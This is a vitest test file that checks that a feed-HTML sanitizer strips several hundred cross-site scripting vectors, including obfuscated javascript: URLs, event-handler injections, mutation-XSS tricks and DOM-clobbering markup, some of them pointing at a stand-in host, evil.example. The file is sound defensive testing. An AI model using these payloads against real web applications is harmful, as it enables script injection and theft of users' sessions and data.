import createDOMPurify from "dompurify";
import { JSDOM } from "jsdom";
import { describe, expect, test } from "vitest";
import { toFeedHtml } from "../../../src/feed/html/to-feed-html.ts";

const url = "https://example.com/posts/q/";

function convert(html: string): string {
  return toFeedHtml(html, { url });
}

describe("hostile HTML", () => {
  const { window } = new JSDOM("");
  const purify = createDOMPurify(window);
  const parse = (html: string): HTMLElement =>
    new window.DOMParser().parseFromString(`<body>${html}`, "text/html").body;
  const removals = (html: string): string[] => {
    const before = parse(html).innerHTML;
    // Without its rule that attribute values must not look like the end of a comment or script, even when escaped.
    const after = parse(purify.sanitize(html, { SAFE_FOR_XML: false })).innerHTML;
    return before === after ? [] : [before, after];
  };
  const schemes = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.com/1",
    "filesystem:https://example.com/1",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "feed:javascript:alert(1)",
    "x-javascript:alert(1)",
    "livescript:alert(1)",
  ];
  const carriers = [
    (value: string) => `<a href="${value}">x</a>`,
    (value: string) => `<img src="${value}" alt="x">`,
    (value: string) => `<img srcset="${value} 1x" src="${value}">`,
    (value: string) => `<video poster="${value}" src="${value}"><source src="${value}"></video>`,
    (value: string) => `<iframe src="${value}"></iframe>`,
    (value: string) => `<object data="${value}"></object><embed src="${value}">`,
    (value: string) => `<form action="${value}"><button formaction="${value}">x</button></form>`,
    (value: string) => `<svg><a xlink:href="${value}"><text>x</text></a><image href="${value}"/></svg>`,
    (value: string) => `<math href="${value}"><maction actiontype="statusline#${value}">x</maction></math>`,
    (value: string) => `<blockquote cite="${value}">x</blockquote><q cite="${value}">y</q>`,
    (value: string) =>
      `<base href="${value}"><link rel=import href="${value}"><meta http-equiv=refresh content="0;${value}">`,
  ];
  const vectors = [
    ...schemes.flatMap((scheme) => carriers.map((carry) => carry(scheme))),
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<body onload=alert(1)><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</table>",
    "<div style='background:url(javascript:alert(1));behavior:url(x);-moz-binding:url(x)'>x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<input autofocus onfocus=alert(1)><input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a id=cookie name=cookie href=#cookie>x</a><img name=getElementById src=x><form id=forms><input name=attributes></form>",
    "<p id=__proto__>x</p><a href=#__proto__>y</a><p id=constructor>z</p>",
    "<a href='https://example.com' target=_blank ping=//evil.example>x</a>",
    "<pre><code class='language-js\" onclick=alert(1) x=\"'>x</code></pre>",
    "<pre data-language='x\" onclick=\"alert(1)'><code>x</code></pre>",
    "<span class=katex><annotation encoding=tex><img src=x onerror=alert(1)>&lt;img src=x onerror=alert(1)></annotation></span>",
    "<iframe src=//v.example title='&lt;img src=x onerror=alert(1)>'></iframe>",
    "<img alt='\"><script>alert(1)</script>' src=x title='`onerror=alert(1)`'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?import x?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<ruby><rtc><style><img src=x onerror=alert(1)></style></rtc></ruby>",
    "<a href='//evil.example\\@example.com'>x</a><a href='https:/\\evil.example'>y</a>",
    "<p lang='javascript:alert(1)' dir='data:text/html,x'>x</p>",
    "<ol start='java&#9;script:1' type='vbscript:x'><li>x</li></ol>",
    "<del datetime='&nbsp;javascript:1'>x</del>",
    "<img src='&ZeroWidthSpace;javascript:1'><img srcset='java script:1 1x'><a href='java script:1'>x</a>",
  ];

  test.each(vectors)("%s", (vector) => {
    const html = convert(vector);
    // Every markup character belongs to a tag, not to an attribute value.
    expect(html.replace(/<\/?[a-z][a-z0-9]*(?: [a-z]+(?:="[^"<>]*")?)*>/g, "")).not.toMatch(/[<>]/);
    expect(removals(html)).toEqual([]);
    for (const element of parse(html).querySelectorAll("*")) {
      expect("script style iframe object embed form input svg math base link meta".split(" ")).not.toContain(
        element.localName,
      );
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|style|srcdoc|ping|target/);
        if (["href", "src", "poster", "cite"].includes(name))
          expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/);
      }
    }
  });

  test("includes many vectors", () => {
    expect(vectors.length).toBeGreaterThan(200);
  });
});
